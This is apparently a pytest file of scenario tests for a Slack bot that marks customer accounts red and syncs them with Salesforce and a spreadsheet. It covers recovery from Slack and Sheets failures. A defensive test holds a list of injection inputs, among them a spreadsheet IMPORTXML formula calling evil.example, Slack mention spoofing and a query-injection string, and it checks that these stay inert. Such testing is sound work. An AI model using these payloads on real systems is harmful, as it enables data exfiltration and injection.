"""What goes wrong outside: each has a recovery and a sentence, and nothing is lost."""

from __future__ import annotations

from sqlalchemy import text as sql

from sandbox import company
from sandbox.sheets.person import AtTheGrid
from tests.stories.story import Story, text_of
from tests.stories.test_red_accounts import WHY, mark


def test_an_unknown_subcommand_shows_help(story: Story) -> None:
    seen = story.command("priya", "/red-account frobnicate everything")
    assert seen.view is None
    assert "“frobnicate everything” is nothing that `/red-account` knows." in seen.text
    assert "opens the form for Acme" in seen.text


def test_help_is_help(story: Story) -> None:
    assert "marks an account red" in story.command("dev", "/red-account help").text


def test_a_trigger_that_expired_is_answered_with_a_sentence(story: Story) -> None:
    story.slack.trigger_seconds = -1
    try:
        typed = story.command("priya", "/red-account acme")
        assert "Slack stopped waiting before the form could open" in typed.text
    finally:
        story.slack.trigger_seconds = 3.0


def test_an_expired_trigger_of_a_button_is_answered_by_dm(story: Story) -> None:
    mark(story, "priya", "acme")
    story.settle()
    story.slack.trigger_seconds = -1
    try:
        story.click("priya", story.card("Acme"), "red_account.ask")
        story.settle()
    finally:
        story.slack.trigger_seconds = 3.0
    assert "Slack stopped waiting before the form could open" in text_of(story.dm("priya"))


def test_a_deleted_card_is_posted_again_with_its_first_reply(story: Story) -> None:
    mark(story, "priya", "acme")
    story.settle()
    story.sandbox.run(story.slack.delete_bot_message(company.RED_ACCOUNTS, story.card("Acme")["ts"]))
    story.settle()
    again = story.card("🔴 Acme is red")
    assert len(story.thread(again)) == 1
    assert story.failed() == []


def test_a_card_deleted_while_the_bot_was_away_comes_back_with_the_next_change(story: Story) -> None:
    mark(story, "priya", "acme")
    story.settle()
    story.stop()
    story.sandbox.run(story.slack.delete_bot_message(company.RED_ACCOUNTS, story.card("Acme")["ts"]))
    story.go_live()
    story.skip(seconds=3)  # for two seconds a poll leaves alone what Touchpoint itself has just written
    story.set_health("tom", "Acme", "Yellow")
    story.poll()
    assert "Is it over?" in text_of(story.card("Acme: Salesforce says Yellow"))


def test_an_archived_channel_waits_and_goes_on_when_it_is_back(story: Story) -> None:
    story.sandbox.run(story.slack.archive(company.RED_ACCOUNTS))
    mark(story, "priya", "acme")
    story.settle()
    assert "The channel is archived. Unarchive it" in text_of(story.dm("lena"))
    assert story.health("Acme") == "Red"
    story.sandbox.run(story.slack.unarchive(company.RED_ACCOUNTS))
    story.settle()
    assert len(story.cards("Acme")) == 1


def test_a_channel_without_the_bot_waits_until_it_is_invited(story: Story) -> None:
    story.sandbox.run(story.slack.kick_bot(company.RED_ACCOUNTS))
    mark(story, "priya", "acme")
    story.settle()
    assert "Invite it there: /invite @Touchpoint" in text_of(story.dm("lena"))
    story.sandbox.run(story.slack.invite_bot(company.RED_ACCOUNTS))
    story.settle()
    assert len(story.cards("Acme")) == 1


def test_a_channel_that_becomes_shared_with_a_customer_gets_nothing(story: Story) -> None:
    story.slack.channels[company.RED_ACCOUNTS].is_ext_shared = True
    story.services.slack.forget_channel(company.RED_ACCOUNTS)
    mark(story, "priya", "acme")
    story.settle()
    assert story.cards("Acme") == []
    assert "shared with another company" in text_of(story.dm("lena"))


def test_what_was_for_a_person_who_left_goes_to_the_lead(story: Story) -> None:
    mark(story, "tom", "acme")
    story.settle()
    story.sandbox.run(story.slack.deactivate("U0PRIYA000"))
    story.settle()
    story.skip(days=2)
    assert "Tom thinks Acme is red" in text_of(story.dms("lena")[0])
    mark(story, "marek", "moorhen logistics")
    story.settle()
    assert any("Marek thinks Moorhen Logistics is red" in text_of(message) for message in story.dms("lena"))


def test_an_account_without_a_ce_or_an_ae_we_know_still_gets_its_card(story: Story) -> None:
    record = company.account_id(story.world, "Acme")
    story.sandbox.call(story.world.salesforce.update, "Account", record, {"Customer_Engineer__c": None}, None)
    story.set_health("tom", "Acme", "Red")
    story.poll()
    assert "CE nobody yet" in text_of(story.card("Acme"))


def test_our_own_fault_gives_a_code_and_keeps_what_was_typed(story: Story) -> None:
    form = story.command("priya", "/red-account acme").view
    assert form
    with story.services.transaction() as session:
        session.execute(sql("ALTER TABLE history RENAME TO history_away"))
    try:
        seen = story.submit("priya", form, **WHY)
    finally:
        with story.services.transaction() as session:
            session.execute(sql("ALTER TABLE history_away RENAME TO history"))
    assert seen.view
    assert "That did not work, and nothing was changed. Code" in text_of(seen.view)
    story.sandbox.run(story.slack.close("U0PRIYA000", seen.view["id"]))
    again = story.submit("priya", form, **WHY)
    assert again.ok
    story.settle()
    assert len(story.cards("Acme")) == 1


def test_slack_loses_answers_and_nothing_is_shown_twice(story: Story) -> None:
    story.world.faults.switch_on("slack", "drop_after", call="chat.postMessage", times=2)
    mark(story, "priya", "acme")
    story.settle()
    for _ in range(4):
        story.skip(minutes=6)
    card = story.card("Acme")
    assert len(story.thread(card)) == 1
    assert story.failed() == []


def test_slack_asks_to_wait_and_is_given_the_time(story: Story) -> None:
    story.world.faults.switch_on("slack", "429", call="chat.postMessage", times=1, seconds=600)
    story.set_health("priya", "Acme", "Red")
    story.poll()
    assert story.cards("Acme") == []
    story.skip(seconds=300)
    assert story.cards("Acme") == []
    story.skip(seconds=330)
    assert len(story.cards("Acme")) == 1


def test_the_sheet_loses_an_answer_and_the_row_is_there_once(story: Story) -> None:
    story.world.faults.switch_on("sheets", "drop_after", call="batchUpdate", times=1)
    mark(story, "priya", "acme")
    story.settle()
    story.skip(minutes=6)
    assert len(story.rows("Acme")) == 1
    assert story.failed() == []


def test_a_sheet_that_is_down_delays_the_row_alone(story: Story) -> None:
    story.world.faults.switch_on("sheets", "down")
    mark(story, "priya", "acme")
    story.settle()
    assert story.health("Acme") == "Red"
    assert len(story.cards("Acme")) == 1
    assert story.rows("Acme") == []
    story.world.faults.switch_off()
    story.skip(minutes=6)
    assert len(story.rows("Acme")) == 1


def test_a_row_that_somebody_deleted_is_not_put_back(story: Story) -> None:
    mark(story, "priya", "acme")
    story.settle()
    story.sandbox.call(lambda: AtTheGrid(story.world.sheets, tab=company.TAB).delete("ROWS", 1))
    assert story.rows("Acme") == []
    story.set_health("tom", "Acme", "Yellow")
    story.poll()
    assert story.rows("Acme") == []
    assert story.failed() == []


def test_people_sort_rows_and_move_columns_and_the_row_is_found(story: Story) -> None:
    mark(story, "priya", "acme")
    story.settle()
    story.sandbox.call(lambda: AtTheGrid(story.world.sheets, tab=company.TAB).sort(0, descending=True))
    story.sandbox.call(lambda: AtTheGrid(story.world.sheets, tab=company.TAB).move("COLUMNS", 1, 9))
    story.set_health("tom", "Acme", "Yellow")
    story.poll()
    [row] = story.rows("Acme")
    assert row["Status"] == "red"
    assert story.row("Hillcrest")["Current state"] == "Rollout stalled at 30 users."


def test_what_people_wrote_into_the_row_is_kept(story: Story) -> None:
    mark(story, "priya", "acme")
    story.settle()
    grid = story.sandbox.call(lambda: AtTheGrid(story.world.sheets, tab=company.TAB).grid())
    column = grid["header"].index("Current state")
    story.sandbox.call(
        lambda: AtTheGrid(story.world.sheets, "U0TOM00000", company.TAB).type(1, column, "Tom's view of it")
    )
    form = story.command("priya", "/red-account acme").view
    assert form
    story.submit("priya", form, sentence="Another sentence of Priya's.")
    story.settle()
    assert story.row("Acme")["Current state"] == "Tom's view of it"


HOSTILE = (
    "<!channel> <@U0LENA0000> <https://evil.example|your bank>",
    '=IMPORTXML("https://evil.example","//a")',
    "' OR Name != '",
    "+1 -2 @3 \t=4",
    "é" * 3000,
    "👩‍👩‍👧 done 🎉",
    "مرحبا \u202eevil\u202c \u200fשלום",
    "before\x00after \x07\x1b[31m",
    "&amp; &lt;!here&gt;",
    "*bold* _it_ ```code``` :tada:",
)


def test_user_text_is_inert_everywhere(story: Story) -> None:
    accounts = [name for name in company.NAMES if name not in company.RED_ON_DAY_ONE]
    for name in accounts[: len(HOSTILE)]:
        record = company.account_id(story.world, name)
        by = {"Customer_Engineer__c": company.user_id(story.world, company.PRIYA)}
        story.sandbox.call(story.world.salesforce.update, "Account", record, by, None)
    story.poll()
    for text, name in zip(HOSTILE, accounts, strict=False):
        form = story.command("priya", f"/red-account {name}").view
        assert form, name
        seen = story.submit("priya", form, reason="other", sentence=text[:3000], asks=text[:480], actions=text[:480])
        assert seen.ok, (text, seen)
        assert not seen.errors, (text, seen)
    story.settle()
    assert story.failed() == []
    for message in story.channel(company.RED_ACCOUNTS):
        said = text_of(message)
        assert "<!channel" not in said
        assert "<!here" not in said
        assert "<@U0LENA" not in said
        assert "<https://evil" not in said
        assert "\x00" not in said
        assert "\u202e" not in said
    formulas = [cell for row in story.rows() for cell in row.values() if cell.startswith("=IMPORTXML")]
    assert len(formulas) == 3  # shown as the text that it is, in three columns
    assert story.world.sheets.spreadsheet().tab(company.TAB) is not None


def test_text_that_is_too_long_is_named_under_its_field(story: Story) -> None:
    form = story.command("priya", "/red-account acme").view
    assert form
    seen = story.submit("priya", form, reason="other", sentence="fine", asks="x" * 501)
    assert seen.errors == {"asks": "Line 1 is longer than 500 characters. Split it in two."}


def test_an_account_with_a_hostile_name_is_only_a_name(story: Story) -> None:
    record = company.account_id(story.world, "Acme")
    hostile = "<!channel> ' OR Name != ' =1+1"
    story.sandbox.call(story.world.salesforce.update, "Account", record, {"Name": hostile}, None)
    story.poll()
    form = story.command("priya", f"/red-account {hostile}").view
    assert form
    assert story.submit("priya", form, **WHY).ok
    story.settle()
    assert story.failed() == []
    [card] = story.cards("OR Name != ")
    assert "<!channel>" not in "".join(str(block) for block in card["blocks"] if block["type"] != "header")
    assert "<!channel>" not in card["text"]
